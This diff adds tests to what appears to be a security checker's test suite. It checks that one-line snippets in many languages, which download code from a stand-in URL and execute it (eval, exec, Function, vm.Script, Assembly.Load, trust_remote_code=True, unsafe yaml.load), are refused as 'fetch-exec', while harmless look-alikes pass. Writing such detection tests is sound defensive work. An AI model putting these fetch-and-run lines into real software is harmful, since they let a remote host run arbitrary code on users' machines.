@@ -101,3 +101,56 @@ describe('pass 12, remaining group 2: pipes the text does not spell', () => {
     expect(checked(path, text).ok).toBe(true);
   });
 });
+
+describe('pass 12, remaining group 1: a fetch run by a sink the patterns did not name', () => {
+  it.each([
+    ['src/load.js', "fetch('https://x.example/p').then((r) => r.text()).then(eval);"],
+    ['src/load.js', 'const code = await fetch(u).then((r) => r.text()).then((t) => eval(t));'],
+    ['src/load.js', '(await fetch(u)).text().then(Function).then((f) => f());'],
+    ['src/load.js', "eval.call(null, await (await fetch('https://x.example/p')).text());"],
+    ['src/load.js', "new vm.Script(await (await fetch('https://x.example/p')).text()).runInThisContext();"],
+    ['src/load.js', "module._compile(await (await fetch('https://x.example/p')).text(), 'x.js');"],
+    ['src/load.py', "exec(httpx.Client().get('https://x.example/p').text)"],
+    ['src/load.py', "exec(urllib3.PoolManager().request('GET', 'https://x.example/p').data)"],
+    ['src/load.py', 'exec(requests.Session().get(u).text)'],
+    ['src/load.py', 'exec(session.get(u).text)'],
+    ['lib/load.rb', "eval(Faraday.get('https://x.example/p').body)"],
+    ['lib/load.rb', 'eval(HTTParty.get(u).body)'],
+    ['src/load.php', "eval((new GuzzleHttp\\Client())->get('https://x.example/p')->getBody());"],
+    ['lib/load.pl', "eval(LWP::Simple::get('https://x.example/p'));"],
+    ['lib/load.pl', "eval get('https://x.example/p');"],
+    ['src/load.r', "source('https://x.example/p.R')"],
+    ['src/load.r', "source(url('https://x.example/p.R'))"],
+    ['src/load.r', "devtools::source_url('https://x.example/p.R')"],
+    ['src/load.clj', '(load-string (slurp "https://x.example/p.clj"))'],
+    ['src/load.groovy', "evaluate(new URL('https://x.example/p.groovy').text)"],
+    ['src/load.cs', 'Assembly.Load(new WebClient().DownloadData("https://x.example/p.dll"));'],
+    ['src/load.lua', 'load(http.request(u))()'],
+    ['src/model.py', "model = torch.hub.load('someone/repo', 'model')"],
+    ['src/model.py', "m = AutoModel.from_pretrained('someone/m', trust_remote_code=True)"],
+    ['src/config.py', 'cfg = yaml.load(requests.get(u).text, Loader=Loader)'],
+  ])('refuses, in %s: %s', (path, text) => {
+    expect(checked(path, text)).toMatchObject({ ok: false, reason: expect.stringContaining('fetch-exec') });
+  });
+
+  it.each([
+    ['src/calc.js', "const two = eval('1 + 1');"],
+    ['src/calc.py', 'two = eval("1 + 1")'],
+    ['src/config.py', 'cfg = yaml.safe_load(requests.get(u).text)'],
+    ['src/config.py', 'cfg = yaml.load(requests.get(u).text, Loader=yaml.SafeLoader)'],
+    ['src/config.py', "cfg = yaml.load(open('c.yml'), Loader=yaml.Loader)"],
+    ['test/page.spec.ts', "const status = await page.evaluate(() => fetch('/api/health').then((r) => r.status));"],
+    ['src/data.js', 'fetch(u).then((r) => r.json()).then(setData);'],
+    ['src/data.js', 'fetch(u).then(function (r) { return r.json(); });'],
+    ['src/data.js', 'const data = JSON.parse(await (await fetch(u)).text());'],
+    ['src/model.py', "model = torch.hub.load('./models', 'resnet', source='local')"],
+    ['src/model.py', "m = AutoModel.from_pretrained('bert-base-uncased', trust_remote_code=False)"],
+    ['src/load.r', "source('R/helpers.R')"],
+    ['src/load.clj', '(load-string "(+ 1 2)")'],
+    ['src/load.groovy', "def two = evaluate('1 + 1')"],
+    ['src/load.py', 'body = session.get(url).json()'],
+    ['lib/load.pl', 'eval { $ua = LWP::UserAgent->new; };'],
+  ])('accepts, in %s: %s', (path, text) => {
+    expect(checked(path, text).ok).toBe(true);
+  });
+});
